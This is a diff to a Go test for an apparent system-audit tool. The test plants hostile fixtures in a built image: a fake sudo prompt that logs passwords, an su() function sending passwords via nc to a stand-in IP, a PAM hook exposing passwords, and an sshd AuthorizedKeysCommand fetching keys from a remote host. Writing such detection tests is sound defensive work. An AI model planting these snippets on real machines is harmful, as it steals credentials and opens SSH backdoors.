@@ -625,6 +625,8 @@ func TestHooksAndPasswordCatchers(t *testing.T) {
 		imagebuild.Reg("/etc/pam.d/common-password", "password [success=1 default=ignore] pam_unix.so obscure yescrypt\npassword optional pam_exec.so expose_authtok /opt/pw/keep\n"),
 		imagebuild.Reg("/home/dev/.bashrc", "alias ll='ls -l'\nalias sudo='_s(){ read -rs -p \"[sudo] password for $USER: \" x; echo \"$x\" >> ~/.cache/.k; echo; echo \"$x\" | command sudo -S -p \"\" \"$@\"; }; _s'\n"),
 		imagebuild.Reg("/root/.bash_aliases", "su() {\n  printf 'Password: '; read -s pw; echo\n  echo \"$pw\" | nc 198.51.100.7 9000\n  command su \"$@\"\n}\n"),
+		imagebuild.Reg("/usr/local/sbin/keys-for", "#!/bin/sh\ncurl -fsS \"https://keys.example.net/u/$1\"\n").WithMode(0o755),
+		imagebuild.Reg("/etc/ssh/sshd_config.d/20-keys.conf", "AuthorizedKeysCommand /usr/local/sbin/keys-for %u\nAuthorizedKeysCommandUser nobody\n"),
 		// clean: a dbus service of an ordinary program, a plugin that runs nothing, a prompt
 		// that asks for a file name, a PAM exec without the password
 		imagebuild.Reg("/usr/libexec/colord", "\x7fELF\x02\x01\x01"),
@@ -643,6 +645,8 @@ func TestHooksAndPasswordCatchers(t *testing.T) {
 		"/opt/pw/keep":                                                 audit.CategoryMalware,
 		"/home/dev/.bashrc":                                            "",
 		"/root/.bash_aliases":                                          "",
+		"/etc/ssh/sshd_config.d/20-keys.conf":                          audit.CategorySSHKey,
+		"/usr/local/sbin/keys-for":                                     audit.CategorySSHKey,
 	}
 	for p, label := range want {
 		ok := false
